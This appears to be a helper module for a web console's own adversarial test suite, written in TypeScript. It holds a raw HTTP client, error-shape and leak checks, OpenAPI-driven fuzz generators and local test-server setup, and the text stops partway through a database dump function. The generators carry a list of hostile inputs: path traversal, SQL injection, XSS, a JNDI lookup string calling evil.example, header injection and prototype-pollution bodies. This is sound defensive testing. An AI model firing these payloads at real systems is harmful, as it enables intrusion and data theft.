// Shared pieces of the adversarial suite (security.md §3): a raw HTTP client with a cookie jar
// (no URL normalisation, any header, any body), the documented error shape, arbitraries built
// from the OpenAPI document's JSON Schemas plus hostile inputs, server-action discovery and
// calls, and consoles of our own (with their own data, logs and secrets) for the specs that need
// to own the whole process.
import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import pg from "pg";
// @ts-expect-error -- plain ESM helper shared with npm run demo
import { freePort, sandboxEnv, startConsole, startSandbox } from "../../scripts/lib/stack.mjs";
import { ADMIN } from "../support/accounts";
import { sandboxClient, type SandboxClient } from "../support/sandbox";

// ---- HTTP -----------------------------------------------------------------------------------

const agent = new http.Agent({ keepAlive: true, maxSockets: 32 });

export type Reply = {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
  body: Buffer;
  /** A header's value (joined when repeated), or undefined. */
  header(name: string): string | undefined;
  json<T = unknown>(): T;
  ms: number;
};

export type RequestOptions = {
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** JSON body with Content-Type: application/json. */
  json?: unknown;
  /** application/x-www-form-urlencoded body. */
  form?: Record<string, string>;
  /** multipart/form-data body. */
  multipart?: Record<string, string>;
  timeoutMs?: number;
};

/** One request as written: the path goes on the wire untouched (backslashes, dot segments and
 * all), unlike fetch, which normalises URLs the way a browser would. */
export function rawRequest(base: string, method: string, path: string, opts: RequestOptions = {}): Promise<Reply> {
  const url = new URL(base);
  const headers: Record<string, string> = { ...(opts.headers ?? {}) };
  let body = opts.body;
  if (opts.json !== undefined) {
    body = JSON.stringify(opts.json);
    headers["content-type"] ??= "application/json";
  } else if (opts.form) {
    body = new URLSearchParams(opts.form).toString();
    headers["content-type"] ??= "application/x-www-form-urlencoded";
  } else if (opts.multipart) {
    const boundary = `----switchboard-security-${randomBytes(8).toString("hex")}`;
    body = Object.entries(opts.multipart)
      .map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
      .join("")
      .concat(`--${boundary}--\r\n`);
    headers["content-type"] ??= `multipart/form-data; boundary=${boundary}`;
  }
  if (body !== undefined) headers["content-length"] = String(Buffer.byteLength(body));
  const started = performance.now();
  return new Promise((resolve, reject) => {
    const req = http.request({ agent, hostname: url.hostname, port: url.port, method, path, headers, timeout: opts.timeoutMs ?? 60_000 }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("error", reject);
      res.on("end", () => {
        const raw = Buffer.concat(chunks);
        const text = raw.toString("utf8");
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          text,
          body: raw,
          header: (name) => {
            const v = res.headers[name.toLowerCase()];
            return Array.isArray(v) ? v.join(", ") : v;
          },
          json: <T>() => JSON.parse(text) as T,
          ms: performance.now() - started,
        });
      });
    });
    req.on("timeout", () => req.destroy(new Error(`${method} ${path}: no answer within ${opts.timeoutMs ?? 60_000} ms`)));
    req.on("error", reject);
    if (body !== undefined) req.write(body);
    req.end();
  });
}

/** A person's browser, reduced to what the server sees: a cookie jar and the headers it sends. */
export class Client {
  readonly jar = new Map<string, string>();

  constructor(
    readonly base: string,
    /** Sent with every request (e.g. X-Forwarded-For to act as another address). */
    readonly defaults: Record<string, string> = {},
  ) {}

  get origin(): string {
    return new URL(this.base).origin;
  }

  cookieHeader(): string {
    return [...this.jar].map(([k, v]) => `${k}=${v}`).join("; ");
  }

  /** A second browser with the same cookies (optionally against another console instance that
   * shares the session secret and the database). */
  clone(defaults = this.defaults, base = this.base): Client {
    const copy = new Client(base, defaults);
    for (const [k, v] of this.jar) copy.jar.set(k, v);
    return copy;
  }

  keepCookies(reply: Reply): void {
    const set = reply.headers["set-cookie"] ?? [];
    for (const line of set) {
      const [pair, ...attrs] = line.split(";");
      const eq = pair!.indexOf("=");
      const name = pair!.slice(0, eq).trim();
      const value = pair!.slice(eq + 1).trim();
      const expired = attrs.some((a) => /^\s*max-age=0\s*$/i.test(a) || (/^\s*expires=/i.test(a) && Date.parse(a.split("=")[1]!) < Date.now()));
      if (expired || value === "") this.jar.delete(name);
      else this.jar.set(name, value);
    }
  }

  async request(method: string, path: string, opts: RequestOptions = {}): Promise<Reply> {
    const cookie = this.cookieHeader();
    const reply = await rawRequest(this.base, method, path, { ...opts, headers: { ...this.defaults, ...(cookie ? { cookie } : {}), ...(opts.headers ?? {}) } });
    this.keepCookies(reply);
    return reply;
  }

  get = (path: string, opts?: RequestOptions) => this.request("GET", path, opts);
  post = (path: string, opts?: RequestOptions) => this.request("POST", path, opts);
  patch = (path: string, opts?: RequestOptions) => this.request("PATCH", path, opts);
  delete = (path: string, opts?: RequestOptions) => this.request("DELETE", path, opts);

  /** next-auth's CSRF token (and its cookie, into the jar). */
  async csrfToken(): Promise<string> {
    const reply = await this.get("/api/auth/csrf");
    return reply.json<{ csrfToken: string }>().csrfToken;
  }

  /** One password sign-in through next-auth's credentials endpoint, as the sign-in form does it
   * (json=true: the answer is `{ url }`). Returns the raw reply; does not assert success. */
  async attemptSignIn(email: string, password: string, extra: Record<string, string> = {}): Promise<Reply> {
    const csrfToken = await this.csrfToken();
    return this.post("/api/auth/callback/credentials", { form: { csrfToken, email, password, json: "true", ...extra } });
  }

  /** Signs in and checks the console now knows who we are. */
  async signIn(email: string, password: string): Promise<void> {
    const reply = await this.attemptSignIn(email, password);
    const me = await this.get("/api/v1/me");
    if (me.status !== 200) throw new Error(`Signing in ${email} failed: sign-in answered ${reply.status} ${reply.text.slice(0, 200)}; /api/v1/me answered ${me.status}`);
  }
}

/** An administrator's client on a console, signed in. */
export async function signedIn(base: string, email = ADMIN.email, password = ADMIN.password): Promise<Client> {
  const client = new Client(base);
  await client.signIn(email, password);
  return client;
}

/** Creates a console user through the admin API; returns its id. */
export async function createUser(admin: Client, user: { email: string; name: string; password: string; role: "admin" | "operator" | "auditor" }): Promise<string> {
  const reply = await admin.post("/api/v1/users", { json: user });
  if (reply.status !== 201) throw new Error(`Creating ${user.email}: ${reply.status} ${reply.text.slice(0, 300)}`);
  return reply.json<{ user: { id: string } }>().user.id;
}

/** Runs `work` over `items` with at most `limit` in flight. */
export async function pool<T, R>(items: readonly T[], limit: number, work: (item: T, index: number) => Promise<R>): Promise<R[]> {
  const results: R[] = new Array(items.length);
  let next = 0;
  const runners = Array.from({ length: Math.min(limit, items.length) }, async () => {
    while (next < items.length) {
      const i = next++;
      results[i] = await work(items[i]!, i);
    }
  });
  await Promise.all(runners);
  return results;
}

export const median = (values: number[]): number => {
  const sorted = [...values].sort((a, b) => a - b);
  const mid = Math.floor(sorted.length / 2);
  return sorted.length % 2 ? sorted[mid]! : (sorted[mid - 1]! + sorted[mid]!) / 2;
};

// ---- The documented error shape -------------------------------------------------------------

/** Every code the console answers with, and its status (lib/errors.ts, as documented). */
export const ERROR_STATUS: Record<string, number> = {
  bad_request: 400,
  unauthorized: 401,
  step_up_required: 401,
  forbidden: 403,
  aws_denied: 403,
  not_found: 404,
  conflict: 409,
  payload_too_large: 413,
  rate_limited: 429,
  upstream_error: 502,
  unavailable: 503,
};

/** Statuses the API may answer an error with. 500 is not one of them: it is a bug. */
export const DOCUMENTED_ERROR_STATUSES = new Set([400, 401, 403, 404, 409, 413, 429, 502, 503]);

/** Things that must never reach a client: stack frames, file paths, AWS's own error documents. */
const LEAKS: Array<[RegExp, string]> = [
  [/\n\s+at [^\n]+[(:]\d+:\d+/, "a stack trace"],
  [/node_modules|\/work\/|webpack-internal|\.next\/server/, "a server file path"],
  [/<ErrorResponse|<Error><Code>|"__type"\s*:/, "an AWS error document"],
  [/TypeError|ReferenceError|SyntaxError: |ZodError|SqliteError|error: relation /, "an internal error name"],
];

export function leakIn(text: string): string | undefined {
  return LEAKS.find(([re]) => re.test(text))?.[1];
}

/** Undefined when an error reply is in the documented shape; otherwise what is wrong with it. */
export function errorShapeProblem(reply: Pick<Reply, "status" | "text" | "header">): string | undefined {
  if (!DOCUMENTED_ERROR_STATUSES.has(reply.status)) return `status ${reply.status} is not a documented error status`;
  const leak = leakIn(reply.text);
  if (leak) return `the body holds ${leak}`;
  if (!/no-store/.test(reply.header("cache-control") ?? "")) return `Cache-Control is "${reply.header("cache-control") ?? ""}", not no-store`;
  if (!/application\/json/.test(reply.header("content-type") ?? "")) return `Content-Type is "${reply.header("content-type") ?? ""}"`;
  let body: unknown;
  try {
    body = JSON.parse(reply.text);
  } catch {
    return "the body is not JSON";
  }
  return actionErrorProblem((body as { error?: unknown } | null)?.error, reply.status);
}

/** Undefined when `{ code, message, fields? }` is a well-formed error (for `status`, if given). */
export function actionErrorProblem(error: unknown, status?: number): string | undefined {
  if (!error || typeof error !== "object") return "no error object";
  const e = error as { code?: unknown; message?: unknown; fields?: unknown };
  if (typeof e.code !== "string" || !(e.code in ERROR_STATUS)) return `code ${JSON.stringify(e.code)} is not a documented code`;
  if (status !== undefined && ERROR_STATUS[e.code] !== status) return `code ${e.code} came with status ${status}`;
  if (typeof e.message !== "string" || !e.message.trim()) return "no message";
  if (e.fields !== undefined && (typeof e.fields !== "object" || e.fields === null || Object.values(e.fields).some((v) => typeof v !== "string"))) return "fields is not an object of strings";
  return undefined;
}

// ---- The OpenAPI document → operations and arbitraries --------------------------------------

export type JsonSchema = Record<string, unknown>;
export type Operation = { method: string; path: string; pathParams: string[]; queryParams: Array<{ name: string; schema: JsonSchema }>; body?: JsonSchema };
type OpenApi = { paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string; schema?: JsonSchema }>; requestBody?: { content?: Record<string, { schema: JsonSchema }> } }>> };

export async function operations(base: string): Promise<Operation[]> {
  const reply = await rawRequest(base, "GET", "/api/v1/openapi.json");
  if (reply.status !== 200) throw new Error(`GET /api/v1/openapi.json answered ${reply.status}`);
  const doc = reply.json<OpenApi>();
  const ops: Operation[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (!["get", "post", "put", "patch", "delete"].includes(method)) continue;
      const params = op.parameters ?? [];
      ops.push({
        method: method.toUpperCase(),
        path: `/api/v1${path}`,
        pathParams: [...path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!),
        queryParams: params.filter((p) => p.in === "query").map((p) => ({ name: p.name, schema: p.schema ?? {} })),
        body: op.requestBody?.content?.["application/json"]?.schema,
      });
    }
  }
  return ops;
}

export const opKey = (op: Pick<Operation, "method" | "path">) => `${op.method} ${op.path.replace(/^\/api\/v1/, "")}`;

/** Strings an attacker would try, by family. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\r\nSet-Cookie: x=1",
  "line1\nline2\r\n{\"forged\":true}",
  "\u001b[31mred\u001b[0m",
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "/\\evil.example",
  "//evil.example",
  "%00",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "' OR 1=1 --",
  "\"; DROP TABLE users; --",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u202eevil\u202c",
  "\ud83d\ude00".repeat(20),
  "\ud800",
  "ＡＢＣ",
  "ǅ",
  "İ",
  "arn:aws:iam::*:role/*",
  "arn:aws:iam::111111111111:role/ReadOnly ",
  "*",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "123456789012345678901234567890",
  "0x1F",
  "true",
  "null",
  "undefined",
  "[]",
  "{}",
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 1, arbitrary: fc.nat({ max: 300_000 }).map((n) => "A".repeat(n)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 20 })).map(([a, b]) => a + b) },
);

export const hostileNumber: fc.Arbitrary<number | string> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(-1, 0, 2 ** 31, 2 ** 53 + 1, -(2 ** 53), 1e308, Number.MIN_VALUE, 899, 900, 43200, 43201),
);

/** Any JSON value, with hostile leaves. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 5 }),
    fc.dictionary(fc.oneof(hostileString, fc.constantFrom("__proto__", "constructor", "id", "roleId", "accountId", "kind", "email")), tie("value"), { maxKeys: 5 }),
  ),
})).value;

function regexArbitrary(pattern: string): fc.Arbitrary<string> | undefined {
  try {
    const re = new RegExp(pattern, "u");
    // fast-check understands a subset of regular expressions; prove it can use this one.
    const arb = fc.stringMatching(re);
    fc.sample(arb, 1);
    return arb;
  } catch {
    return undefined;
  }
}

/** Realistic values for properties the schema alone cannot describe (zod refinements such as
 * "a region", "an email"), keyed by property name; mixed in half of the time. */
export type Hints = Record<string, fc.Arbitrary<unknown>>;

export const DEFAULT_HINTS: Hints = {
  email: fc.string({ minLength: 1, maxLength: 12, unit: fc.constantFrom(..."abcdefghijklmnopqrstuvwxyz0123456789.") }).map((s) => `fuzz.${s.replace(/^\.+|\.+$|\.{2,}/g, "x") || "x"}@example.com`),
  region: fc.constantFrom("us-east-1", "eu-west-1", "eu-central-2", "us-gov-west-1", "cn-north-1", "ap-southeast-4"),
  defaultRegion: fc.constantFrom("us-east-1", "eu-west-1", "us-gov-west-1", "cn-north-1"),
  accountId: fc.constantFrom("111111111111", "222222222222", "333333333333", "444444444444"),
  partition: fc.constantFrom("aws", "aws-us-gov", "aws-cn"),
  owner: fc.constantFrom("acme", "octo-org", "a"),
  bucket: fc.constantFrom("my-bucket", "logs.example.com"),
  color: fc.constantFrom("#2563eb", "#ABCDEF"),
};
DEFAULT_HINTS.userEmail = DEFAULT_HINTS.email!;

/** Values that satisfy (most of) a JSON Schema as zod's toJSONSchema writes them. */
export function schemaArbitrary(schema: JsonSchema, root: JsonSchema = schema, depth = 0, hints: Hints = DEFAULT_HINTS): fc.Arbitrary<unknown> {
  if (depth > 8) return fc.constant(null);
  const ref = schema.$ref as string | undefined;
  if (ref?.startsWith("#/")) {
    const target = ref
      .slice(2)
      .split("/")
      .reduce<unknown>((o, k) => (o as Record<string, unknown> | undefined)?.[k], root) as JsonSchema | undefined;
    return target ? schemaArbitrary(target, root, depth + 1, hints) : hostileJson;
  }
  if ("const" in schema) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...(schema.enum as unknown[]));
  for (const key of ["anyOf", "oneOf"] as const) {
    const options = schema[key] as JsonSchema[] | undefined;
    if (options?.length) return fc.oneof(...options.map((s) => schemaArbitrary(s, root, depth + 1, hints)));
  }
  const allOf = schema.allOf as JsonSchema[] | undefined;
  if (allOf?.length) return schemaArbitrary(Object.assign({}, ...allOf) as JsonSchema, root, depth + 1, hints);
  const type = Array.isArray(schema.type) ? (schema.type as string[])[0] : (schema.type as string | undefined);
  switch (type) {
    case "string": {
      if (schema.format === "email") return fc.emailAddress();
      if (schema.format === "date-time") return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
      const min = (schema.minLength as number | undefined) ?? 0;
      const max = Math.min((schema.maxLength as number | undefined) ?? 64, 256);
      const matching = typeof schema.pattern === "string" ? regexArbitrary(schema.pattern) : undefined;
      return matching ?? fc.string({ minLength: min, maxLength: Math.max(min, max) });
    }
    case "integer":
      return fc.integer({ min: (schema.minimum as number | undefined) ?? -1e6, max: (schema.maximum as number | undefined) ?? 1e6 });
    case "number":
      return fc.double({ min: (schema.minimum as number | undefined) ?? -1e6, max: (schema.maximum as number | undefined) ?? 1e6, noNaN: true });
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array": {
      const items = (schema.items as JsonSchema | undefined) ?? {};
      const minLength = (schema.minItems as number | undefined) ?? 0;
      return fc.array(schemaArbitrary(items, root, depth + 1, hints), { minLength, maxLength: Math.max(minLength, Math.min((schema.maxItems as number | undefined) ?? 4, 4)) });
    }
    case "object": {
      const properties = (schema.properties as Record<string, JsonSchema> | undefined) ?? {};
      const required = new Set((schema.required as string[] | undefined) ?? []);
      const record = Object.fromEntries(
        Object.entries(properties).map(([k, s]) => {
          const generated = schemaArbitrary(s, root, depth + 1, hints);
          const hint = hints[k];
          return [k, hint ? fc.oneof(hint, generated) : generated];
        }),
      );
      return fc.record(record, { requiredKeys: Object.keys(properties).filter((k) => required.has(k)) });
    }
    default:
      return hostileJson;
  }
}

/** Replaces one leaf (or the whole value) with something of the wrong kind. */
export function mutated(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(valid, fc.nat(), hostileJson, fc.constantFrom("wrong", "array", "null", "drop", "extra", "proto")).map(([value, pick, replacement, how]) => {
    if (!value || typeof value !== "object" || Array.isArray(value)) return how === "array" ? [value] : replacement;
    const copy = structuredClone(value) as Record<string, unknown>;
    const keys = Object.keys(copy);
    const key = keys.length ? keys[pick % keys.length]! : "x";
    if (how === "wrong") copy[key] = replacement;
    else if (how === "array") copy[key] = [copy[key], copy[key]];
    else if (how === "null") copy[key] = null;
    else if (how === "drop") delete copy[key];
    else if (how === "extra") copy[`${key}_extra`] = replacement;
    else Object.defineProperty(copy, "__proto__", { value: { isAdmin: true, role: "admin" }, enumerable: true, configurable: true, writable: true });
    return copy;
  });
}

/** A request body as bytes on the wire: a JSON value, or raw text that is not plain JSON. */
export type WireBody = { contentType: string | undefined; body: string; kind: string };

/** Request bodies for an operation: valid ones, mutated ones, hostile JSON, and raw tricks
 * (duplicate keys, prototype keys, invalid JSON, huge numbers, wrong content types). */
export function wireBody(valid: fc.Arbitrary<unknown>): fc.Arbitrary<WireBody> {
  const json = (kind: string) => (value: unknown): WireBody => ({ contentType: "application/json", body: JSON.stringify(value) ?? "null", kind });
  const objectText = valid.map((v) => (v && typeof v === "object" && !Array.isArray(v) ? JSON.stringify(v) : "{}"));
  return fc.oneof(
    { weight: 6, arbitrary: valid.map(json("valid")) },
    { weight: 6, arbitrary: mutated(valid).map(json("mutated")) },
    { weight: 3, arbitrary: hostileJson.map(json("hostile")) },
    {
      weight: 2,
      arbitrary: fc.tuple(objectText, hostileJson).map(([text, v]): WireBody => {
        // The same key twice: JSON.parse keeps the last, a naive validator might read the first.
        const first = /^\{"([^"]+)":/.exec(text)?.[1] ?? "id";
        const dup = text === "{}" ? `{"${first}":1,"${first}":${JSON.stringify(v) ?? "null"}}` : `${text.slice(0, -1)},"${first}":${JSON.stringify(v) ?? "null"}}`;
        return { contentType: "application/json", body: dup, kind: "duplicate-keys" };
      }),
    },
    {
      weight: 2,
      arbitrary: objectText.map((text): WireBody => ({
        contentType: "application/json",
        body: `{"__proto__":{"role":"admin","isAdmin":true},"constructor":{"prototype":{"polluted":true}},${text.slice(1)}`.replace(/,\}$/, "}"),
        kind: "prototype-keys",
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        "{",
        "{\"a\":",
        "[1,2",
        "{'single':'quotes'}",
        "{\"a\":1}garbage",
        "\u0000",
        "{\"n\":1e999999}",
        "{\"n\":123456789012345678901234567890123456789012345678901234567890}",
        "{\"s\":\"\\ud800\"}",
        "\ufeff{}",
        "null",
        "[]",
        "\"just a string\"",
        "[" + "[".repeat(5000) + "]".repeat(5000) + "]",
      ).map((body): WireBody => ({ contentType: "application/json", body, kind: "invalid-json" })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(valid, fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/json; charset=utf-16", undefined))
        .map(([v, contentType]): WireBody => ({ contentType, body: JSON.stringify(v) ?? "null", kind: "content-type" })),
    },
  );
}

/** encodeURIComponent that takes any string (a lone surrogate becomes U+FFFD, as a browser sends it). */
export function pct(s: string): string {
  return encodeURIComponent(s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd"));
}

/** Path parameter values, correctly percent-encoded: known ids (to reach deep code), random ids,
 * hostile strings. (Malformed encodings and dot segments: PATH_VECTORS.) */
export function pathParamArbitrary(known: readonly string[]): fc.Arbitrary<string> {
  const ulid = fc.stringMatching(/^[0-7][0-9A-HJKMNP-TV-Z]{25}$/);
  return fc.oneof(
    ...(known.length ? [{ weight: 4, arbitrary: fc.constantFrom(...known) }] : []),
    { weight: 2, arbitrary: ulid },
    { weight: 1, arbitrary: fc.stringMatching(/^\d{12}$/) },
    // At most 4,000 characters encoded, so that with a query the request line stays under Node's
    // 16 KiB limit (past it Node answers 431 itself; see queryArbitrary).
    { weight: 3, arbitrary: hostileString.map((s) => pct(s.slice(0, 3000)).slice(0, 4000).replace(/%[0-9A-Fa-f]?$/, "")).filter((s) => s !== "" && !/^(\.|%2e){1,2}$/i.test(s)) },
    { weight: 1, arbitrary: fc.constantFrom("%00", "a%2Fb", "%25", "%2F%2Fevil.example", "%5Cevil.example") },
  );
}

/** What a path segment can hold that is not a well-formed, percent-encoded value: malformed or
 * over-long UTF-8, lone escapes, encoded surrogates, dot segments. */
export const PATH_VECTORS = ["%ZZ", "%", "%%", "%C0%AE", "%C0%AF", "%E0%A4%A", "%ED%A0%80", "%FF", "%F4%90%80%80", "..", ".", "%2e%2e", "%2E", ".%2e", "..%2f..%2fopenapi.json", "..%5C..%5C", "%u002e", "%252e%252e"];

/** A query string: the documented parameters and random ones, with hostile values. */
export function queryArbitrary(params: Operation["queryParams"]): fc.Arbitrary<string> {
  const names = fc.oneof(...(params.length ? [fc.constantFrom(...params.map((p) => p.name))] : []), fc.constantFrom("format", "cascade", "limit", "cursor", "__proto__"), fc.string({ maxLength: 10 }));
  const value = fc.oneof(
    ...params.map((p) => schemaArbitrary(p.schema).map((v) => String(v))),
    hostileString.map((s) => s.slice(0, 4000)),
  );
  // At most 8,000 characters once encoded: past Node's 16 KiB limit for the request line and
  // headers, its HTTP parser answers 431 before the console sees the request at all.
  return fc.array(fc.tuple(names, value), { maxLength: 5 }).map((pairs) => {
    const query = pairs.map(([k, v]) => `${pct(k)}=${pct(v)}`).join("&").slice(0, 8000).replace(/%[0-9A-Fa-f]?$/, "");
    return query ? `?${query}` : "";
  });
}

// ---- Server actions -------------------------------------------------------------------------

export type ServerAction = { id: string; name: string; file: string; page: string };

/** Every server action of the build, from Next.js's manifest, with a page that serves it. */
export function serverActions(root = process.cwd()): ServerAction[] {
  const manifest = JSON.parse(readFileSync(join(root, ".next", "server", "server-reference-manifest.json"), "utf8")) as {
    node: Record<string, { workers: Record<string, unknown>; filename?: string; exportedName?: string }>;
  };
  return Object.entries(manifest.node).map(([id, entry]) => {
    const worker = Object.keys(entry.workers).sort()[0] ?? "app/page";
    const page =
      worker
        .replace(/^app/, "")
        .replace(/\/page$/, "")
        .replace(/\/\([^)]+\)/g, "")
        // A dynamic segment needs some value: a well-formed id nobody has.
        .replace(/\[[^\]]+\]/g, "01J00000000000000000000000") || "/";
    return { id, name: entry.exportedName ?? id, file: entry.filename ?? worker, page };
  });
}

/** React's reply encoding of plain JSON: a string that starts with "$" is escaped as "$$". */
export function encodeReplyJson(value: unknown): string {
  return JSON.stringify([value], (_key, v: unknown) => (typeof v === "string" && v.startsWith("$") ? `$${v}` : v));
}

export type ActionReply = { reply: Reply; result: { ok: boolean; data?: unknown; error?: unknown } | undefined; thrown: boolean };

/** The rows of a React Flight answer: `<id>:<json>\n`, or `<id>:T<hex byte length>,<text>` (no
 * newline) for long strings, which other rows reference as "$<id>". */
export function flightRows(body: Buffer): Map<string, string> {
  const rows = new Map<string, string>();
  let i = 0;
  while (i < body.length) {
    const colon = body.indexOf(0x3a, i);
    if (colon < 0) break;
    const id = body.subarray(i, colon).toString("latin1");
    if (!/^[0-9a-f]+$/.test(id)) break;
    if (body[colon + 1] === 0x54) {
      const comma = body.indexOf(0x2c, colon + 2);
      const length = parseInt(body.subarray(colon + 2, comma).toString("latin1"), 16);
      rows.set(id, `T${body.subarray(comma + 1, comma + 1 + length).toString("utf8")}`);
      i = comma + 1 + length;
    } else {
      const newline = body.indexOf(0x0a, colon);
      const end = newline < 0 ? body.length : newline;
      rows.set(id, body.subarray(colon + 1, end).toString("utf8"));
      i = end + 1;
    }
  }
  return rows;
}

/** Row `id` as a value, with "$<id>" references to text rows resolved and "$$" unescaped. */
function flightValue(rows: Map<string, string>, id: string): unknown {
  const row = rows.get(id);
  if (row === undefined || row.startsWith("E") || row.startsWith("T")) return undefined;
  const resolve = (v: unknown): unknown => {
    if (typeof v === "string") {
      const ref = /^\$([0-9a-f]+)$/.exec(v)?.[1];
      const text = ref ? rows.get(ref) : undefined;
      if (text?.startsWith("T")) return text.slice(1);
      return v.startsWith("$$") ? v.slice(1) : v;
    }
    if (Array.isArray(v)) return v.map(resolve);
    if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, resolve(x)]));
    return v;
  };
  try {
    return resolve(JSON.parse(row));
  } catch {
    return undefined;
  }
}

/** Calls a server action the way the browser does (fetch with Next-Action), with a raw body.
 * A header given as "" is not sent at all (e.g. `{ origin: "" }` for a request without Origin). */
export async function callActionRaw(client: Client, action: ServerAction, body: string, headers: Record<string, string> = {}): Promise<ActionReply> {
  const merged = { "next-action": action.id, "content-type": "text/plain;charset=UTF-8", accept: "text/x-component", origin: client.origin, ...headers };
  const reply = await client.post(action.page, { headers: Object.fromEntries(Object.entries(merged).filter(([, v]) => v !== "")), body });
  // The flight answer: row 0 is the envelope, row 1 the action's return value ("1:E…" if it threw).
  const rows = /x-component/.test(reply.header("content-type") ?? "") ? flightRows(reply.body) : new Map<string, string>();
  const result = flightValue(rows, "1") as ActionReply["result"];
  return { reply, result, thrown: Boolean(rows.get("1")?.startsWith("E")) };
}

export const callAction = (client: Client, action: ServerAction, arg: unknown, headers?: Record<string, string>) => callActionRaw(client, action, encodeReplyJson(arg), headers);

// ---- Consoles of our own --------------------------------------------------------------------

export type OwnSandbox = { url: string; dir: string; token: string; broker: { accessKeyId: string; secretAccessKey: string }; api: SandboxClient; stop(): Promise<void> };

export type OwnConsole = {
  url: string;
  env: Record<string, string>;
  /** Everything the process wrote to stdout and stderr so far. */
  output(): string;
  exited(): boolean;
  /** Stops the process (SIGTERM); removes its data directory unless asked to keep it. */
  stop(opts?: { keepData?: boolean }): Promise<void>;
};

/** A sandbox of our own (fresh seeded world, its own test-interface token). */
export async function startOwnSandbox(root = process.cwd()): Promise<OwnSandbox> {
  const dir = mkdtempSync(join(tmpdir(), "switchboard-sec-sandbox-"));
  const token = randomBytes(24).toString("hex");
  const port = await freePort();
  const sandbox = await startSandbox({ root, dir, port, adminToken: token, reset: true });
  return {
    url: sandbox.url,
    dir,
    token,
    broker: sandbox.broker,
    api: sandboxClient(sandbox.url, token),
    stop: async () => {
      await sandbox.stop();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** A production console of our own against `sandbox`: its own data directory (or DATABASE_URL),
 * secret, port and log. `env` overrides anything. */
export async function startOwnConsole(
  sandbox: Pick<OwnSandbox, "url" | "dir" | "broker">,
  env: Record<string, string> = {},
  root = process.cwd(),
  port?: number,
): Promise<OwnConsole & { dataDir: string }> {
  const dataDir = mkdtempSync(join(tmpdir(), "switchboard-sec-console-"));
  port ??= (await freePort()) as number;
  const url = `http://127.0.0.1:${port}`;
  const chunks: string[] = [];
  const fullEnv: Record<string, string> = {
    ...sandboxEnv({ url: sandbox.url, broker: sandbox.broker }),
    NEXTAUTH_URL: url,
    NEXTAUTH_SECRET: randomBytes(32).toString("base64"),
    SWITCHBOARD_DATA_DIR: dataDir,
    SWITCHBOARD_ADMIN_EMAIL: ADMIN.email,
    SWITCHBOARD_ADMIN_PASSWORD: ADMIN.password,
    SWITCHBOARD_ADMIN_NAME: ADMIN.name,
    SWITCHBOARD_ALLOW_SANDBOX: "true",
    ...env,
  };
  const app = await startConsole({ root, port, env: fullEnv, echo: (s: string) => chunks.push(s) });
  return {
    url,
    env: fullEnv,
    dataDir,
    output: () => chunks.join(""),
    exited: () => app.child.exitCode !== null || app.child.signalCode !== null,
    stop: async (opts: { keepData?: boolean } = {}) => {
      await app.stop();
      if (!opts.keepData) rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

// ---- Postgres -------------------------------------------------------------------------------

const POSTGRES_ADMIN_URL = process.env.SWITCHBOARD_TEST_POSTGRES_URL ?? "postgres://postgres@127.0.0.1:5432/postgres";

/** A fresh, empty database on the local Postgres (trust auth), dropped by `drop()`. */
export async function freshPostgresDatabase(): Promise<{ url: string; name: string; drop(): Promise<void> }> {
  const name = `switchboard_sec_${Date.now().toString(36)}_${randomBytes(4).toString("hex")}`;
  const admin = new pg.Client({ connectionString: POSTGRES_ADMIN_URL, connectionTimeoutMillis: 5000 });
  await admin.connect();
  try {
    await admin.query(`create database ${name}`);
  } finally {
    await admin.end();
  }
  const url = new URL(POSTGRES_ADMIN_URL);
  url.pathname = `/${name}`;
  return {
    url: url.toString(),
    name,
    drop: async () => {
      const c = new pg.Client({ connectionString: POSTGRES_ADMIN_URL });
      await c.connect();
      try {
        await c.query(`drop database if exists ${name} with (force)`);
      } finally {
        await c.end();
      }
    },
  };
}

/** Every row of every table of a Postgres database, as text. */
export async function dumpPostgres(url: string): Promise<string> {
  const client = new pg.Client({ connectionString: url });
  await client.connect();
  try {
